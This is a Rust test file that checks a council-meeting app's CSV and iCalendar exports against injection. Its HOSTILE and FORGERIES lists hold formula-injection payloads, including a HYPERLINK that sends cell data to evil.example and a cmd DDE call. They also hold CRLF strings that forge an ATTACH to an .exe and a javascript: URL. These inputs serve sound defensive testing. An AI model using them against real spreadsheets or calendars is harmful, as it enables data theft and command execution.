//! Exports fed hostile text (issue 12, "Exports that turn data into attacks"), read back
//! by independent parsers: every CSV download through the `csv` crate's reader, every
//! calendar through the `ical` crate.
//!
//! CSV: no field may begin with a formula trigger (`=`, `+`, `-`, `@`, TAB, CR) unless it
//! is a plain number; a neutralised field is the original text behind one `'`.
//! iCalendar: one VEVENT per meeting, nothing injected (no `ATTACH`, no extra property),
//! every text value reads back as written, lines at most 75 octets and ending in CRLF.

use minutebook_data::{
    parse_bytes, Block, Catalogue, Cell, Column, ColumnKind, DataTable, Date, Indicator,
    MeetingStatus, RagStatus, TableRow, Time, Unit, Venue,
};
use minutebook_domain::charts::{ChartPoint, SeriesData, StackedBar, StackedData};
use minutebook_domain::csv_export::{
    actions_csv, indicators_csv, rag_counts_csv, series_csv, stacked_csv, table_csv,
};
use minutebook_domain::ics::{calendar, meeting_event, CalendarEvent, EventStart};
use minutebook_domain::rag::{ActionRow, RagCounts};
use std::path::PathBuf;

/// Cells an attacker (or a clumsy paste) might put in the data.
const HOSTILE: &[&str] = &[
    r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "\t=1",
    "\r=1",
    "=1+1\r\n=2+2",
    "-2+3,\"quoted\"\nnext line",
    "=\"a\"\"b\"",
    "'=already quoted",
    "a normal, \"quoted\" cell\nwith a line break",
    "-",
    "-3.5",
    "=",
    "",
];

/// The trigger rule, written independently of the code under test.
fn is_number(s: &str) -> bool {
    s.parse::<f64>().is_ok_and(f64::is_finite)
        && s.bytes()
            .all(|b| b.is_ascii_digit() || b == b'-' || b == b'.')
        && !s.ends_with('.')
        && !s.starts_with("-.")
        && !s.starts_with('.')
}

fn starts_with_trigger(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The first record of a CSV text: its header row, as written.
fn csv_header(text: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect()
}

/// Reads `csv` back with the `csv` crate (strict: every record as long as the header)
/// and compares it with the unneutralised `expected` rows (header first).
fn check_csv(what: &str, csv: &str, expected: &[Vec<String>]) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    let records: Vec<Vec<String>> = reader
        .records()
        .map(|r| {
            r.unwrap_or_else(|e| panic!("{what}: {e}"))
                .iter()
                .map(str::to_string)
                .collect()
        })
        .collect();
    assert_eq!(records.len(), expected.len(), "{what}: rows");
    for (got, want) in records.iter().zip(expected) {
        assert_eq!(got.len(), want.len(), "{what}: fields in {got:?}");
        for (g, w) in got.iter().zip(want) {
            assert!(
                !starts_with_trigger(g) || is_number(g),
                "{what}: {g:?} would be read as a formula"
            );
            if starts_with_trigger(w) && !is_number(w) {
                assert_eq!(g.strip_prefix('\''), Some(w.as_str()), "{what}");
            } else {
                assert_eq!(g, w, "{what}");
            }
        }
    }
}

fn s(v: &str) -> String {
    v.to_string()
}

#[test]
fn table_csv_neutralises_every_hostile_cell() {
    let mut columns = vec![Column {
        label: s("=Label"),
        kind: ColumnKind::Text,
        decimals: None,
    }];
    columns.push(Column {
        label: s("-Count"),
        kind: ColumnKind::Number,
        decimals: Some(1),
    });
    columns.push(Column {
        label: s("@List"),
        kind: ColumnKind::Text,
        decimals: None,
    });
    let rows: Vec<TableRow> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, h)| TableRow {
            cells: vec![
                Some(Cell::Text(s(h))),
                Some(Cell::Number(-3.5 - i as f64)),
                Some(Cell::List(vec![s(h), s("+second")])),
            ],
            total: false,
            note: Some(s(h)),
        })
        .chain([TableRow {
            cells: vec![None, Some(Cell::Number(f64::NEG_INFINITY)), None],
            total: true,
            note: None,
        }])
        .collect();
    let t = DataTable {
        id: s("t"),
        title: s("t"),
        period: None,
        columns,
        rows,
        chart: None,
        source: None,
        notes: vec![],
    };
    let mut expected = vec![vec![s("=Label"), s("-Count"), s("@List"), s("Note")]];
    for (i, h) in HOSTILE.iter().enumerate() {
        expected.push(vec![
            s(h),
            format!("{:.1}", -3.5 - i as f64),
            format!("{h}\n+second"),
            s(h),
        ]);
    }
    expected.push(vec![s(""), s("-inf"), s(""), s("")]);
    check_csv("table_csv", &table_csv(&t), &expected);
    // Our own negative numbers stay numbers.
    assert!(table_csv(&t).contains(",-3.5,"));
}

fn indicator(h: &str, value: Option<f64>) -> Indicator {
    let json = serde_json::json!({
        "id": "i",
        "name": h,
        "category": h,
        "value": value,
        "decimals": 1,
        "unit": "count",
        "value_text": h,
        "period": h,
        "target": { "value": -2.0, "decimals": 0, "by": h },
        "comparators": [
            { "kind": "other", "label": h, "text": h },
            { "kind": "national", "value": -1.25, "decimals": 2 }
        ],
        "note": h
    });
    serde_json::from_value(json).expect("an indicator")
}

#[test]
fn indicators_csv_neutralises_every_hostile_cell() {
    let list: Vec<Indicator> = HOSTILE.iter().map(|h| indicator(h, Some(-3.5))).collect();
    let mut expected = vec![[
        "Indicator",
        "Category",
        "Value",
        "Unit",
        "As printed",
        "Period",
        "Target",
        "Comparators",
        "Note",
    ]
    .map(s)
    .to_vec()];
    for h in HOSTILE {
        expected.push(vec![
            s(h),
            s(h),
            s("-3.5"),
            s("count"),
            s(h),
            s(h),
            format!("-2 by {h}"),
            format!("{h}: {h}; National: -1.25"),
            s(h),
        ]);
    }
    check_csv("indicators_csv", &indicators_csv(&list), &expected);
}

#[test]
fn chart_tables_neutralise_every_hostile_cell() {
    let series = SeriesData {
        title: s("t"),
        unit: Unit::Number,
        decimals: Some(2),
        label_heading: s("=Label"),
        value_heading: s("+Value"),
        points: HOSTILE
            .iter()
            .map(|h| ChartPoint {
                label: s(h),
                value: -3.5,
            })
            .collect(),
    };
    let mut expected = vec![vec![s("=Label"), s("+Value")]];
    expected.extend(HOSTILE.iter().map(|h| vec![s(h), s("-3.50")]));
    check_csv("series_csv", &series_csv(&series), &expected);

    let stacked = StackedData {
        title: s("t"),
        unit: Unit::Count,
        decimals: None,
        bar_heading: s("@Bar"),
        categories: HOSTILE.iter().map(|h| s(h)).collect(),
        bars: HOSTILE
            .iter()
            .map(|h| StackedBar {
                label: s(h),
                values: vec![-1.0; HOSTILE.len()],
            })
            .collect(),
    };
    let mut header = vec![s("@Bar")];
    header.extend(HOSTILE.iter().map(|h| s(h)));
    header.push(s("Total"));
    let mut expected = vec![header];
    for h in HOSTILE {
        let mut row = vec![s(h)];
        row.extend(HOSTILE.iter().map(|_| s("-1")));
        row.push(format!("-{}", HOSTILE.len()));
        expected.push(row);
    }
    check_csv("stacked_csv", &stacked_csv(&stacked), &expected);
}

fn action(number: usize, h: &str) -> ActionRow {
    ActionRow {
        number,
        priority: s("1"),
        priority_title: s(h),
        outcome: vec![s(h), s("-outcome")],
        reference: Some(s(h)),
        objective: vec![s(h)],
        action: vec![Block::Paragraph(s(h)), Block::List(vec![s(h)])],
        success: vec![Block::Paragraph(s(h))],
        lead: Some(s(h)),
        status: Some(RagStatus::ALL[number % RagStatus::ALL.len()]),
        status_words: Some(s(h)),
        milestone: Some(s(h)),
        detailed_plan: Some(s(h)),
        note: Some(s(h)),
    }
}

#[test]
fn improvement_plan_csvs_neutralise_every_hostile_cell() {
    let rows: Vec<ActionRow> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, h)| action(i + 1, h))
        .collect();
    let refs: Vec<&ActionRow> = rows.iter().collect();
    let text = actions_csv(&refs);
    let header = csv_header(&text);
    let mut expected = vec![header];
    for (r, h) in rows.iter().zip(HOSTILE) {
        expected.push(vec![
            r.number.to_string(),
            s(h),
            format!("{h}\n-outcome"),
            s(h),
            s(h),
            format!("{h}\n• {h}"),
            s(h),
            s(h),
            minutebook_domain::rag::status_label(r.status).to_string(),
            s(h),
            s(h),
            s(h),
            s(h),
        ]);
    }
    check_csv("actions_csv", &text, &expected);

    let per: Vec<(String, String, RagCounts)> = rows
        .iter()
        .map(|r| (s("1"), r.priority_title.clone(), RagCounts::of([r])))
        .collect();
    let overall = RagCounts::of(&rows);
    let text = rag_counts_csv(&per, &overall);
    let header = csv_header(&text);
    let counts = |title: &str, c: &RagCounts| {
        let mut row = vec![s(title)];
        row.extend(RagStatus::ALL.iter().map(|st| c.get(*st).to_string()));
        row.push(c.unrated.to_string());
        row.push(c.total().to_string());
        row
    };
    let mut expected = vec![header];
    expected.extend(per.iter().map(|(_, t, c)| counts(t, c)));
    expected.push(counts("All priorities", &overall));
    check_csv("rag_counts_csv", &text, &expected);
}

// ---------------------------------------------------------------------------------------
// iCalendar

/// Titles and venues that try to forge events, plus text that must survive folding.
const FORGERIES: &[&str] = &[
    "Audit\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Forged\r\nATTACH:http://evil.example/x.exe\r\nDTSTART:20300101T000000Z",
    "Audit\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:http://evil.example/x.exe",
    "Audit\rEND:VEVENT\rBEGIN:VEVENT\rATTACH:http://evil.example/x.exe",
    "Line one\r\nline two pasted from a PDF",
    "Semi; colon, comma \\ backslash \\n not a newline \\, not a comma",
    "Pwyllgor Trosolwg a Chraffu (Gwasanaethau Plant a Diogelu) — Neuadd y Dref, Ffordd y Drindod, Bootle — ŵŷ âêîôû",
    "🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️🏛️ 👩🏽‍⚖️👩🏽‍⚖️👩🏽‍⚖️👩🏽‍⚖️👩🏽‍⚖️",
    "Tabs\tand\u{1}control\u{7f}characters\u{1b}[31m",
    "Spaces                                                            between words",
];

/// What a reader should get back: line breaks as `\n`, control characters other than
/// TAB and the line breaks dropped.
fn expected_text(s: &str) -> String {
    s.replace("\r\n", "\n")
        .replace('\r', "\n")
        .chars()
        .filter(|c| !c.is_control() || *c == '\t' || *c == '\n')
        .collect()
}

/// Reverses RFC 5545 TEXT escaping.
fn unescape(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n') | Some('N') => out.push('\n'),
                Some(x) => out.push(x),
                None => panic!("a trailing backslash in {s:?}"),
            }
        } else {
            out.push(c);
        }
    }
    out
}

type Props = Vec<(String, String)>;

/// The lines are CRLF-terminated and at most 75 octets; then the calendar's and each
/// event's properties as (name, raw value), parsed by `ical`.
fn parse_ics(text: &str) -> (Props, Vec<Props>) {
    assert!(text.ends_with("\r\n"), "the file ends with CRLF");
    for line in text[..text.len() - 2].split("\r\n") {
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
        assert!(!line.contains(['\r', '\n']), "a bare CR or LF in {line:?}");
    }
    let mut parser = ical::IcalParser::new(text.as_bytes());
    let cal = parser
        .next()
        .expect("a VCALENDAR")
        .unwrap_or_else(|e| panic!("the calendar parses: {e}"));
    assert!(parser.next().is_none(), "exactly one VCALENDAR");
    assert!(cal.todos.is_empty() && cal.alarms.is_empty() && cal.journals.is_empty());
    let props = |ps: &[ical::property::Property]| -> Props {
        ps.iter()
            .map(|p| (p.name.clone(), p.value.clone().unwrap_or_default()))
            .collect()
    };
    (
        props(&cal.properties),
        cal.events.iter().map(|e| props(&e.properties)).collect(),
    )
}

fn get<'a>(props: &'a Props, name: &str) -> Vec<&'a str> {
    props
        .iter()
        .filter(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
        .collect()
}

const CALENDAR_PROPS: &[&str] = &["VERSION", "PRODID", "CALSCALE", "NAME", "X-WR-CALNAME"];
const EVENT_PROPS: &[&str] = &[
    "UID",
    "DTSTAMP",
    "DTSTART",
    "DTEND",
    "SUMMARY",
    "LOCATION",
    "DESCRIPTION",
    "URL",
    "STATUS",
];

fn check_no_injection(cal: &Props, events: &[Props]) {
    for (n, v) in cal {
        assert!(CALENDAR_PROPS.contains(&n.as_str()), "injected {n}:{v}");
    }
    for e in events {
        for (n, v) in e {
            assert!(EVENT_PROPS.contains(&n.as_str()), "injected {n}:{v}");
            assert_eq!(get(e, n).len(), 1, "{n} twice");
        }
    }
}

#[test]
fn text_cannot_forge_events_or_properties() {
    // What this replaced: the `icalendar` crate (0.17) escaped LF but wrote a CR as it
    // was, left the calendar name unescaped and wrote a URL as given. With the writer in
    // `ics`, the same input gives one event and nothing injected.
    let name = "Calendar\r\nX-INJECTED:1\r\nBEGIN:VEVENT\r\nATTACH:http://evil.example/";
    let event = CalendarEvent {
        uid: s("m1@minutebook\r\nATTACH:http://evil.example/uid"),
        summary: s(FORGERIES[0]),
        start: EventStart::London(
            Date::parse("2022-11-07").unwrap(),
            Time::new(18, 30).unwrap(),
        ),
        location: Some(s(FORGERIES[2])),
        description: Some(s(FORGERIES[1])),
        url: Some(s(
            "https://council.example/m/1\r\nATTACH:http://evil.example/url x\"<>",
        )),
        cancelled: false,
    };
    let text = calendar(name, std::slice::from_ref(&event));
    let (cal, events) = parse_ics(&text);
    check_no_injection(&cal, &events);
    assert_eq!(events.len(), 1);
    assert!(!text.contains("\nATTACH") && !text.contains("\nX-INJECTED"));
    for prop in ["NAME", "X-WR-CALNAME"] {
        assert_eq!(unescape(get(&cal, prop)[0]), expected_text(name));
    }
    let e = &events[0];
    assert_eq!(unescape(get(e, "UID")[0]), expected_text(&event.uid));
    assert_eq!(
        unescape(get(e, "SUMMARY")[0]),
        expected_text(&event.summary)
    );
    assert_eq!(
        get(e, "URL"),
        ["https://council.example/m/1%0D%0AATTACH:http://evil.example/url%20x%22%3C%3E"]
    );
    // Only http(s) addresses become URLs.
    let mut other = event.clone();
    other.url = Some(s("javascript:alert(1)"));
    let (_, events) = parse_ics(&calendar("x", &[other]));
    assert!(get(&events[0], "URL").is_empty());
}

#[test]
fn hostile_committee_titles_and_venues_give_one_event_per_meeting() {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../public/data/index.json");
    let cat: Catalogue = parse_bytes("index.json", &std::fs::read(path).unwrap()).unwrap();
    let base = cat.committee("sefton-osc-children").unwrap();
    let meetings: Vec<_> = cat.meetings_of("sefton-osc-children").cloned().collect();
    assert!(meetings.iter().any(|m| m.start_time.is_some()));
    assert!(meetings.iter().any(|m| m.start_time.is_none()));
    for (i, hostile) in FORGERIES.iter().enumerate() {
        let mut committee = base.clone();
        committee.title = s(hostile);
        let mut ms = meetings.clone();
        for (j, m) in ms.iter_mut().enumerate() {
            m.venue = Some(Venue {
                name: s(FORGERIES[(i + j) % FORGERIES.len()]),
                address: (j % 2 == 0).then(|| s(FORGERIES[(i + j + 1) % FORGERIES.len()])),
            });
            if j == 1 {
                m.status = MeetingStatus::Cancelled;
            }
        }
        let events: Vec<CalendarEvent> = ms
            .iter()
            .filter_map(|m| {
                meeting_event(
                    m,
                    &committee,
                    Some(&format!("https://council.example/meetings/{}", m.id)),
                )
            })
            .collect();
        assert_eq!(events.len(), ms.len(), "every meeting is known to the day");
        let name = format!("{hostile} (Sefton Council)");
        let text = calendar(&name, &events);
        let (cal, parsed) = parse_ics(&text);
        check_no_injection(&cal, &parsed);
        assert_eq!(parsed.len(), ms.len(), "exactly one VEVENT per meeting");
        assert_eq!(unescape(get(&cal, "X-WR-CALNAME")[0]), expected_text(&name));
        for (e, p) in events.iter().zip(&parsed) {
            assert_eq!(unescape(get(p, "UID")[0]), e.uid);
            assert_eq!(unescape(get(p, "SUMMARY")[0]), expected_text(hostile));
            assert_eq!(
                unescape(get(p, "LOCATION")[0]),
                expected_text(e.location.as_deref().unwrap())
            );
            assert_eq!(
                unescape(get(p, "DESCRIPTION")[0]),
                expected_text(e.description.as_deref().unwrap())
            );
            assert_eq!(
                get(p, "STATUS"),
                [if e.cancelled {
                    "CANCELLED"
                } else {
                    "CONFIRMED"
                }]
            );
        }
    }
}

#[test]
fn long_text_folds_within_75_octets_and_round_trips() {
    let welsh = "Cyfarfod y Pwyllgor Trosolwg a Chraffu (Gwasanaethau Plant a Diogelu); ymddiheuriadau gan y Cynghorydd Llŷr ap Gwŷnfor, Siân ac Ifor — Neuadd y Dref, Bŵtl 🏛️.";
    for pad in 0..8 {
        let summary = format!("{}{}", "x".repeat(pad), [welsh; 3].join(" "));
        let event = CalendarEvent {
            uid: format!("{}@minutebook", "ŵ".repeat(40 + pad)),
            summary: summary.clone(),
            start: EventStart::AllDay(Date::parse("2024-02-29").unwrap()),
            location: Some("😀".repeat(30 + pad)),
            description: Some(format!("{summary}\n\\;,\t{}", "é".repeat(50))),
            url: Some(format!("https://council.example/{}", "a".repeat(100 + pad))),
            cancelled: false,
        };
        let text = calendar(&summary, std::slice::from_ref(&event));
        let (cal, events) = parse_ics(&text);
        check_no_injection(&cal, &events);
        let e = &events[0];
        assert_eq!(unescape(get(&cal, "NAME")[0]), summary);
        assert_eq!(unescape(get(e, "UID")[0]), event.uid);
        assert_eq!(unescape(get(e, "SUMMARY")[0]), summary);
        assert_eq!(unescape(get(e, "LOCATION")[0]), event.location.unwrap());
        assert_eq!(
            unescape(get(e, "DESCRIPTION")[0]),
            event.description.unwrap()
        );
        assert_eq!(get(e, "URL")[0], event.url.unwrap());
        assert_eq!(get(e, "DTSTART")[0], "20240229");
        assert_eq!(get(e, "DTEND")[0], "20240301");
    }
}

#[test]
fn impossible_dates_are_left_out_not_written_without_a_start() {
    let ok = CalendarEvent {
        uid: s("ok@minutebook"),
        summary: s("ok"),
        start: EventStart::AllDay(Date::parse("2022-11-07").unwrap()),
        location: None,
        description: None,
        url: None,
        cancelled: false,
    };
    let bad = |start| CalendarEvent {
        uid: s("bad@minutebook"),
        start,
        ..ok.clone()
    };
    let events = [
        ok.clone(),
        bad(EventStart::AllDay(Date {
            year: 2022,
            month: 2,
            day: 30,
        })),
        bad(EventStart::AllDay(Date {
            year: 10356,
            month: 1,
            day: 1,
        })),
        bad(EventStart::London(
            Date::parse("2022-11-07").unwrap(),
            Time {
                hour: 25,
                minute: 0,
            },
        )),
    ];
    let (_, parsed) = parse_ics(&calendar("x", &events));
    assert_eq!(parsed.len(), 1);
    assert_eq!(get(&parsed[0], "UID"), ["ok@minutebook"]);
}
